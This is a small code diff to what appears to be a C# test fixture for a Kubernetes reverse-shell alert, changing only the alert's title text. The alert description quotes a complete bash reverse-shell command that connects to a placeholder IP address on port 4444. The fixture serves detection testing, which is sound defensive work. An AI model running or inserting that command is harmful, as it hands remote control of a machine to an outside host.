@@ -15,7 +15,7 @@ internal static class Expected
         Category = AlertCategory.ReverseShell,
         Severity = Severity.Medium,
         Time = DateTimeOffset.Parse("2026-11-20T09:12:55Z"),
-        Title = "Reverse shell",
+        Title = "Potential reverse shell detected",
         Description = "Analysis of processes running within a container detected a potential reverse shell: bash -i >& /dev/tcp/203.0.113.45/4444 0>&1.",
         Rule = "K8S.NODE_ReverseShell",
         Target = new AlertTarget
